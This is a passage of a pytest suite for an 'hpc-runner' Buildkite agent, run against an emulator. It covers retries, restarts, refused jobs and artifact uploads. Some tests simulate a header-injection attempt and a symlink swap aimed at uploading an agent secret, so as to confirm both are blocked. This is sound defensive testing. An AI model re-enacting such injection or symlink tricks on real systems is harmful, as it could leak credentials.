        # Pings answered with the header come and go; heartbeats go on.
        await wait_until(lambda: agent.pings >= 2 and len(agent.heartbeats) >= 2, timeout=10,
                         what="pings and heartbeats after the header was asked for")
        running.host.hold["long"] = hold = asyncio.Event()
        job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                      env={"BUILDKITE_STEP_KEY": "long"}))
        await wait_until(lambda: running.host.ran, what="the job to run")
        beats = len(agent.heartbeats)
        await wait_until(lambda: len(agent.heartbeats) > beats, timeout=10, what="a heartbeat during the job")
        hold.set()
        assert (await finished(bk, job_id))["exit_status"] == "0"
        after = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN]))
        assert (await finished(bk, after))["exit_status"] == "0"

    # One session served throughout, with the valid header echoed and the other never sent.
    assert list(bk.agents) == [agent.id] and bk.jobs[after].agent_id == agent.id
    assert [e for e in logs if e["event"] == "Buildkite agent session failed; it is restarted"] == []
    assert all(set(r.missing_headers) == {"Buildkite-Broken"} and not r.unexpected_headers
               for r in bk.header_violations())
    assert not any("Buildkite-Broken" in r.headers or "X-Injected" in r.headers for r in bk.recorded)
    assert all(r.headers.get("Buildkite-Shard") == "9" for r in bk.requests("finish"))
    # Told once, naming the header, however many answers asked for it.
    told = [(e["log_level"], e["header"]) for e in logs if e["event"] == UNSENDABLE]
    assert told == [("warning", "Buildkite-Broken")]


async def test_a_ping_naming_another_endpoint_moves_the_agent_there_only_once_it_answers(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    with socket.socket() as unused:   # a port nobody listens on
        unused.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{unused.getsockname()[1]}/v3"
    bk.ping_endpoint = dead
    make_source()
    await wait_until(lambda: len(bk.requests("ping")) >= 3, what="pings while the new endpoint is dead")
    assert all(r.path == "/v3/ping" for r in bk.requests("ping"))

    bk.ping_endpoint = bk.edge_url
    await wait_until(lambda: any(r.path == "/edge/v3/ping" for r in bk.requests("ping")), what="a ping there")
    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN]))

    assert (await finished(bk, job_id))["exit_status"] == "0"
    for endpoint in ("accept", "start", "chunks", "finish"):
        assert all(r.path.startswith("/edge/v3/") for r in bk.requests(endpoint)), endpoint


async def test_workers_register_as_separate_agents_and_run_jobs_at_once(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source(workers=3)
    gate = asyncio.Event()
    for name in ("a", "b", "c"):
        running.host.hold[name] = gate
    ids = [queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                env={"BUILDKITE_STEP_KEY": name})) for name in ("a", "b", "c")]
    await wait_until(lambda: len(running.host.ran) == 3, timeout=30, what="three jobs at once")
    gate.set()
    for job_id in ids:
        assert (await finished(bk, job_id))["exit_status"] == "0"
    assert len({bk.jobs[j].agent_id for j in ids}) == 3


# -- faults: finish exactly once, no chunk lost ------------------------------------------------


@pytest.mark.parametrize("fault", ["status500", "status429", "non_json", "drop", "drop_processed", "delay"])
async def test_whole_job_under_faults_finishes_once_with_the_whole_log(
        fault: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        repo: Path) -> None:
    for endpoint in ("start", "chunks", "job_state", "finish", "ping", "heartbeat"):
        if fault == "status500":
            bk.fail(endpoint, 500, times=2)
        elif fault == "status429":
            bk.fail(endpoint, 429, times=2, retry_after=0)
        elif fault == "non_json":
            bk.non_json(endpoint, times=2)
        elif fault == "drop":
            bk.drop(endpoint, times=2)
        elif fault == "drop_processed":
            bk.drop(endpoint, times=1, processed=endpoint in ("finish", "chunks"))
        else:
            bk.delay(endpoint, 6, times=1)
    running = make_source()
    lines = [f"line {i}\n".encode() * 50 for i in range(40)]
    running.host.outputs["build"] = lines
    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                  env={"BUILDKITE_STEP_KEY": "build"}))
    await wait_until(lambda: bk.job_state(job_id) == "finished", timeout=60, what="finish")
    await running.stop()
    bodies = bk.finishes(job_id)
    assert bodies[0]["exit_status"] == "0"
    # A finish the server recorded but whose answer was lost is sent once more and answered 422.
    assert len(bodies) == (2 if fault in ("drop_processed", "delay") else 1), bodies
    assert unstamped(bk.log(job_id)).endswith(b"".join(lines))
    assert bk.jobs[job_id].chunk_conflicts == []
    assert bodies[0]["chunks_failed_count"] == 0


async def test_a_chunk_refused_with_4xx_is_given_up_and_counted(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    running.host.hold["build"] = hold = asyncio.Event()
    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                  env={"BUILDKITE_STEP_KEY": "build"}))
    await wait_until(lambda: bk.chunks(job_id) if job_id in bk.jobs else None, what="a first chunk")
    bk.fail("chunks", 400, message="Missing chunk")
    running.host.note(running.host.ran[0], "one more line\n")
    await wait_until(lambda: any(r.status == 400 for r in bk.requests("chunks")), what="the 400")
    hold.set()
    body = await finished(bk, job_id)
    assert body["chunks_failed_count"] == 1
    assert len([r for r in bk.requests("chunks") if r.status == 400]) == 1


# -- restart -----------------------------------------------------------------------------------


async def test_a_restarted_source_carries_on_the_log_and_finishes_once(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        tmp_path: Path) -> None:
    host = FakeHost(tmp_path / "site")
    host.hold["build"] = asyncio.Event()
    host.outputs["build"] = [f"before {i}\n".encode() * 20 for i in range(20)]
    first = make_source(host)
    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                  env={"BUILDKITE_STEP_KEY": "build"}))
    await wait_until(lambda: bk.jobs[job_id].chunks_by_offset, what="a first chunk")
    # The next chunk arrives but its answer does not come back before the agent dies: it is staged,
    # so the restarted agent sends exactly the same bytes again.
    bk.delay("chunks", 30, processed=True)
    await wait_until(lambda: host.ran, what="the job to run")
    host.note(host.ran[0], "the last line before the agent dies\n")
    await wait_until(lambda: any(r.fault == "delay" for r in bk.requests("chunks")), what="the delayed chunk")
    # The agent dies: its tasks stop wherever they are, nothing is flushed or finished.
    first.task.cancel()
    await asyncio.gather(first.task, return_exceptions=True)
    host.store.close()
    record_id = host.ran[0]
    with (host.log_path(record_id)).open("ab") as handle:
        handle.write(b"written while the agent was down\n")

    second_host = FakeHost(tmp_path / "site")
    second_host.outputs["build"] = host.outputs["build"]
    second = make_source(second_host)
    body = await finished(bk, job_id)
    await second.stop()
    assert body["exit_status"] == "0"
    log = unstamped(bk.log(job_id))
    expected = (b"".join(host.outputs["build"]) + b"the last line before the agent dies\n"
                + b"written while the agent was down\n")
    assert log.endswith(expected), log[-300:]
    assert log.count(b"before 0\n" * 20) == 1
    assert bk.jobs[job_id].chunk_conflicts == []
    assert len(bk.finishes(job_id)) == 1
    assert bk.jobs[job_id].duplicate_chunks >= 1


# -- jobs the agent cannot take as given, and its own failures ---------------------------------


def nested(depth: int) -> object:
    value: object = "leaf"
    for _ in range(depth):
        value = {"deeper": value}
    return value


async def test_a_step_nested_too_deep_is_refused_naming_it_and_the_worker_runs_the_next_job(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    deep = signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN])
    deep["step"]["plugins"] = [{"hpc-runner#v1": nested(700)}]
    # A signature in the right form, by the right key, over another step.
    deep["step"]["signature"] = signed_job(signer, "other", repo=str(repo))["step"]["signature"]
    deep_id = queue(bk, deep)
    after = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                 env={"BUILDKITE_STEP_KEY": "after"}))

    body = await finished(bk, deep_id)

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    log = unstamped(bk.log(deep_id))
    assert log == b"hpc-runner: refused: the job's step.plugins is nested deeper than 64 levels\n", log
    assert (await finished(bk, after))["exit_status"] == "0"
    assert [record.external_id for record in running.host.store.list_jobs()] == [after]
    assert len(running.host.ran) == 1


@pytest.mark.parametrize("signed", [True, False], ids=["signed", "allow_unsigned"])
async def test_a_job_whose_env_is_a_list_is_refused_naming_it_and_the_worker_runs_the_next_job(
        signed: bool, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        repo: Path) -> None:
    running = make_source(signed=signed)
    listed = signed_job(signer if signed else None, "make", repo=str(repo), plugins=[PLUGIN])
    listed["env"] = [f"{name}={value}" for name, value in listed["env"].items()]
    listed_id = queue(bk, listed)
    after = queue(bk, signed_job(signer if signed else None, "make", repo=str(repo), plugins=[PLUGIN]))

    body = await finished(bk, listed_id)

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    log = unstamped(bk.log(listed_id))
    assert log == b"hpc-runner: refused: the job's env is not a map of strings (it is a list)\n", log
    assert (await finished(bk, after))["exit_status"] == "0"
    assert [record.external_id for record in running.host.store.list_jobs()] == [after]


@pytest.mark.parametrize("where", ["translation", "run"])
async def test_a_job_whose_processing_raises_is_finished_once_logged_once_and_the_worker_goes_on(
        where: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A bug anywhere in a job's processing ends that job, not the agent's session."""
    running = make_source()
    if where == "translation":
        real = source_module.translate

        def translate(job: dict[str, Any], **kwargs: Any) -> Any:
            if job["env"].get("BUILDKITE_STEP_KEY") == "buggy":
                raise KeyError("a bug")
            return real(job, **kwargs)
        monkeypatch.setattr(source_module, "translate", translate)
    else:
        real_run = running.host.run

        async def run(job_id: str, *, sink: LogSink, cancel: asyncio.Event, **kwargs: Any) -> Any:
            async def breaking(offset: int, data: bytes) -> None:
                await sink(offset, data)
                raise KeyError("a bug")
            buggy_job = job_id == running.host.store.list_jobs()[0].id
            return await real_run(job_id, sink=breaking if buggy_job else sink, cancel=cancel, **kwargs)
        monkeypatch.setattr(running.host, "run", run)
    with capture_logs() as logs:
        buggy = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                     env={"BUILDKITE_STEP_KEY": "buggy"}))
        after = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                     env={"BUILDKITE_STEP_KEY": "after"}))
        body = await finished(bk, buggy)
        assert (await finished(bk, after))["exit_status"] == "0"

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "process_run_error")
    log = unstamped(bk.log(buggy))
    # A job that ran keeps the output it had, with the line after it.
    assert log.endswith((b"hello from the job\n" if where == "run" else b"")
                        + b"hpc-runner: the agent failed while handling this job (KeyError); it was stopped "
                        b"there, and the agent's log has the details\n"), log
    assert bk.jobs[buggy].chunk_conflicts == []
    tracebacks = [entry for entry in logs if entry.get("exc_info")]
    assert [(entry["event"], entry["job"]) for entry in tracebacks] == [
        ("Buildkite job failed in the agent; it is finished as not run", buggy)]
    assert len(running.host.ran) == (2 if where == "run" else 1)
    if where == "translation":
        assert running.host.store.find_by_external_id("buildkite", buggy) is None


# -- failures no retry rule knows (a bug, a header aiohttp refuses) ----------------------------

REFUSED_HEADER = "Forbidden control character detected in headers. Potential header injection attack."


def raise_on(monkeypatch: pytest.MonkeyPatch, breaks: Callable[[ApiRequest], bool]) -> None:
    """Calls for which `breaks` says so raise ValueError, as aiohttp does before sending a request
    with a header value holding a newline; the others go to the emulator."""
    real = AgentSession.call

    async def call(self: AgentSession, request: ApiRequest, **kwargs: Any) -> Any:
        if breaks(request):
            raise ValueError(REFUSED_HEADER)
        return await real(self, request, **kwargs)
    monkeypatch.setattr(AgentSession, "call", call)


def countdown(times: dict[str, int]) -> Callable[[ApiRequest], bool]:
    """True for the next `times[name]` calls of each endpoint name."""
    def breaks(request: ApiRequest) -> bool:
        if times.get(request.name, 0) > 0:
            times[request.name] -= 1
            return True
        return False
    return breaks


async def test_a_chunk_upload_that_raises_ends_its_stream_and_the_job_is_finished_once_and_the_next_runs(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    running = make_source()
    running.host.outputs["broken"] = [b"line %d of a job whose log cannot be sent\n" % i for i in range(40)]
    # Small chunks: many more of them than there are upload workers.
    broken = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                  env={"BUILDKITE_STEP_KEY": "broken"}, chunks_max_size_bytes=256))
    after = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                 env={"BUILDKITE_STEP_KEY": "after"}))
    raise_on(monkeypatch, lambda request: request.name == "chunks" and f"/{broken}/" in request.path)

    with capture_logs() as logs:
        body = await finished(bk, broken)
        after_body = await finished(bk, after)

    # The command ran and succeeded; of its log Buildkite is told that every chunk failed.
    assert (body["exit_status"], body.get("signal_reason")) == ("0", None)
    assert bk.chunks(broken) == []
    assert body["chunks_failed_count"] > 3
    # The same agent session goes on with the next job, whose log is whole.
    assert (after_body["exit_status"], after_body["chunks_failed_count"]) == ("0", 0)
    assert unstamped(bk.log(after)).endswith(b"hello from the job\n")
    assert len(bk.agents) == 1
    tracebacks = [entry for entry in logs if entry.get("exc_info")]
    assert [(entry["event"], entry["job"]) for entry in tracebacks] == [
        ("a log chunk could not be uploaded; the rest of this job's log is not sent", broken)]


async def test_heartbeats_and_pings_that_raise_do_not_end_the_session(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    faults = {"heartbeat": 2, "ping": 2}
    raise_on(monkeypatch, countdown(faults))
    with capture_logs() as logs:
        make_source()
        await wait_until(lambda: bk.agents, what="registration")
        agent = next(iter(bk.agents.values()))
        await wait_until(lambda: not any(faults.values()), what="the failing heartbeats and pings")
        beats = len(agent.heartbeats)
        job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN]))
        assert (await finished(bk, job_id))["exit_status"] == "0"
        # Heartbeats go on after the ones that raised.
        await wait_until(lambda: len(agent.heartbeats) > beats, what="a heartbeat after the failures")

    assert list(bk.agents) == [agent.id] and bk.jobs[job_id].agent_id == agent.id
    failures = [(entry["event"], entry["error"]) for entry in logs
                if entry["event"] in ("heartbeat failed", "ping failed")]
    assert sorted(failures) == sorted([("heartbeat failed", f"ValueError: {REFUSED_HEADER}")] * 2
                                      + [("ping failed", f"ValueError: {REFUSED_HEADER}")] * 2)


async def test_a_job_state_poll_that_raises_is_followed_by_the_next_and_the_job_keeps_its_outcome(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    faults = {"job_state": 2}
    raise_on(monkeypatch, countdown(faults))
    with capture_logs() as logs:
        running = make_source()
        running.host.hold["first"] = first_hold = asyncio.Event()
        running.host.hold["second"] = asyncio.Event()
        first = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                     env={"BUILDKITE_STEP_KEY": "first"}))
        await wait_until(lambda: not faults["job_state"], what="the job-state polls that raise")
        # Polling goes on after them.
        await wait_until(lambda: bk.requests("job_state"), timeout=10, what="a job-state poll answered")
        first_hold.set()
        first_body = await finished(bk, first)

        faults["job_state"] = 1
        second = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                      env={"BUILDKITE_STEP_KEY": "second"}))
        await wait_until(lambda: not faults["job_state"], what="the second job's poll that raises")
        bk.cancel_job(second)
        second_body = await finished(bk, second)

    # The command ended well: so does the job, whatever its polls raised.
    assert (first_body["exit_status"], first_body.get("signal_reason")) == ("0", None)
    assert unstamped(bk.log(first)).endswith(b"hello from the job\n")
    # A cancel after a poll that raised still cancels.
    assert (second_body["exit_status"], second_body["signal"], second_body["signal_reason"]) == (
        "-1", "SIGTERM", "cancel")
    failures = [(e["job"], e["error"], bool(e.get("exc_info"))) for e in logs
                if e["event"] == "Buildkite job-state poll failed"]
    # Its traceback once per job, then one line each.
    assert failures == [(first, f"ValueError: {REFUSED_HEADER}", True),
                        (first, f"ValueError: {REFUSED_HEADER}", False),
                        (second, f"ValueError: {REFUSED_HEADER}", True)]
    assert list(bk.agents) == [bk.jobs[second].agent_id]


def test_restarts_wait_5s_doubling_up_to_5_minutes_and_a_long_lived_session_starts_afresh() -> None:
    assert [source_module.restart_delay(5.0, n) for n in (1, 2, 3, 4, 6, 7, 10_000)] == [
        5.0, 10.0, 20.0, 40.0, 160.0, 300.0, 300.0]
    assert source_module.death_streak(3, lived_s=30.0) == 4
    assert source_module.death_streak(3, lived_s=600.0) == 1


async def test_a_session_that_dies_is_logged_with_a_count_and_restarted_after_a_backoff(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    # Connect raises three times: three sessions die, each logged once, and the fourth serves.
    faults = {"connect": 3}
    raise_on(monkeypatch, countdown(faults))
    with capture_logs() as logs:
        running = make_source()
        job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN]))
        assert (await finished(bk, job_id))["exit_status"] == "0"
        await running.stop()

    deaths = [entry for entry in logs if entry["event"] == "Buildkite agent session failed; it is restarted"]
    assert [(entry["deaths"], entry["log_level"], entry["exc_info"]) for entry in deaths] == [
        (1, "error", True), (2, "error", True), (3, "error", True)]
    assert all(entry["error"] == f"ValueError: {REFUSED_HEADER}" for entry in deaths)
    # Each restart waits longer than the one before.
    waits = [entry["restart_in"] for entry in deaths]
    assert waits == sorted(waits) and waits[0] < waits[-1]
    # Each try registered a new agent; the last one took the job, and every one was disconnected.
    assert len(bk.agents) == 4
    assert bk.jobs[job_id].agent_id == list(bk.agents)[-1]
    assert all(agent.disconnected for agent in bk.agents.values())


# -- outputs as artifacts ----------------------------------------------------------------------

OUTPUTS_PLUGIN = {"hpc-runner#v1": {"image": "test", "resources": {"time": "5m"},
                                    "outputs": ["results/**/*.nc", "plots/*.png"]}}
OUTPUT_FILES = {"results/run1/field.nc": b"\x89HDF\r\n" + bytes(range(256)) * 40,
                "plots/energy.png": b"\x89PNG\r\n\x1a\n" + b"plot" * 1000}


def outputs_job(signer: StepSigner, repo: Path) -> dict[str, Any]:
    return signed_job(signer, "make results", repo=str(repo), plugins=[OUTPUTS_PLUGIN],
                      env={"BUILDKITE_STEP_KEY": "results"})


async def test_a_jobs_outputs_become_its_artifacts_with_the_recorded_digests_before_it_finishes(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    running.host.collected["results"] = dict(OUTPUT_FILES)
    job_id = queue(bk, outputs_job(signer, repo))

    body = await finished(bk, job_id)

    assert body["exit_status"] == "0"
    artifacts = {a.path: a for a in bk.job_artifacts(job_id)}
    assert set(artifacts) == set(OUTPUT_FILES)
    for path, content in OUTPUT_FILES.items():
        artifact = artifacts[path]
        assert artifact.state == "finished"
        assert artifact.content == content
        assert artifact.sha256sum == hashlib.sha256(content).hexdigest()
    # Each names the declared pattern that matched it, as Buildkite shows an artifact's glob.
    assert artifacts["results/run1/field.nc"].glob_path == "results/**/*.nc"
    assert artifacts["plots/energy.png"].glob_path == "plots/*.png"
    assert artifacts["plots/energy.png"].content_type == "image/png"
    # Created, uploaded and marked while the job still ran: all before its finish.
    names = [r.endpoint for r in bk.recorded if r.job_id == job_id or r.endpoint == "artifact_upload"]
    assert names.index("finish") > max(i for i, n in enumerate(names) if n == "artifacts_update")
    assert b"hpc-runner: 2 of 2 artifact(s) uploaded\n" in unstamped(bk.log(job_id))
    # The storage heard nothing of the agent's tokens (the emulator refuses them).
    assert all(r.status == 204 for r in bk.requests("artifact_upload"))


async def test_an_upload_the_storage_refuses_is_an_error_artifact_in_the_log_and_the_job_keeps_its_status(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    running.host.exit_status = 3
    running.host.collected["results"] = {"plots/energy.png": OUTPUT_FILES["plots/energy.png"]}
    # A storage error is retried; a refusal (an expired form) is final.
    bk.fail("artifact_upload", 503)
    bk.fail("artifact_upload", 403, message="Request has expired")
    job_id = queue(bk, outputs_job(signer, repo))

    body = await finished(bk, job_id)

    assert body["exit_status"] == "3"
    [artifact] = bk.job_artifacts(job_id)
    assert (artifact.state, artifact.content) == ("error", None)
    assert len(bk.requests("artifact_upload")) == 2
    log = unstamped(bk.log(job_id)).decode()
    assert "hpc-runner: artifact plots/energy.png not uploaded: storage answered HTTP 403" in log
    assert "hpc-runner: 0 of 1 artifact(s) uploaded" in log


async def test_when_buildkite_creates_no_artifacts_the_job_still_finishes_and_its_log_says_why(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    running.host.collected["results"] = dict(OUTPUT_FILES)
    bk.fail("artifacts_create", 422, message="Artifact quota exceeded")
    job_id = queue(bk, outputs_job(signer, repo))

    assert (await finished(bk, job_id))["exit_status"] == "0"
    assert bk.job_artifacts(job_id) == []
    assert not bk.requests("artifact_upload") and not bk.requests("artifacts_update")
    log = unstamped(bk.log(job_id)).decode()
    assert "hpc-runner: artifact plots/energy.png not uploaded: Buildkite did not create it" in log
    assert "Artifact quota exceeded" in log


async def test_a_collected_output_replaced_by_a_link_is_not_uploaded(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        tmp_path: Path) -> None:
    running = make_source()
    running.host.collected["results"] = dict(OUTPUT_FILES)
    secret = tmp_path / "agent-secret"
    secret.write_bytes(OUTPUT_FILES["plots/energy.png"])
    collected = running.host.collect

    def collect_then_swap(job_id: str, name: str) -> tuple[OutputFile, ...]:
        outputs = collected(job_id, name)
        plot = running.host.log_path(job_id).parent / "outputs" / "plots" / "energy.png"
        plot.unlink()
        plot.symlink_to(secret)
        return outputs

    running.host.collect = collect_then_swap  # type: ignore[method-assign]
    job_id = queue(bk, outputs_job(signer, repo))

    assert (await finished(bk, job_id))["exit_status"] == "0"
    assert [a.path for a in bk.job_artifacts(job_id)] == ["results/run1/field.nc"]
    log = unstamped(bk.log(job_id)).decode()
    assert "hpc-runner: artifact plots/energy.png not uploaded: a link stands in its path" in log
    assert "hpc-runner: 1 of 2 artifact(s) uploaded" in log


async def test_a_job_without_outputs_makes_no_artifact_requests(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    make_source()
    job_id = queue(bk, outputs_job(signer, repo))

    assert (await finished(bk, job_id))["exit_status"] == "0"
    assert not [r for r in bk.recorded if r.endpoint and r.endpoint.startswith("artifact")]
    assert b"Uploading artifacts" not in unstamped(bk.log(job_id))


async def test_a_stopping_agent_finishes_the_job_without_uploading_its_outputs(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    running.host.collected["results"] = dict(OUTPUT_FILES)
    running.host.hold["results"] = release = asyncio.Event()
    job_id = queue(bk, outputs_job(signer, repo))
    await wait_until(lambda: running.host.ran, "the job to run")
    running.host.stopping.set()
    release.set()

    assert (await finished(bk, job_id))["exit_status"] == "0"
    assert not [r for r in bk.recorded if r.endpoint and r.endpoint.startswith("artifact")]
    assert b"hpc-runner: artifacts not uploaded: the agent is stopping\n" in unstamped(bk.log(job_id))
